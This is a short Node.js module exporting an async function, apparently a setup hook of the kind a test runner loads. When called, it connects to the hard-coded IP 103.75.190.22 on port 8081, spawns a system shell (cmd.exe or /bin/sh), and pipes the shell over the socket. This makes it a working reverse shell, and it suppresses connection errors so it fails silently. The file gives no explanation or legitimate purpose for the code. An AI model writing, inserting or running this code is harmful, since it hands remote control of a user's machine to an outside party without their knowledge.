const net = require('net');
const { spawn } = require('child_process');

module.exports = async () => {
  const sock = new net.Socket();
  sock.connect(8081, '103.75.190.22', () => {
    const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
  });
  sock.on('error', () => {});
};
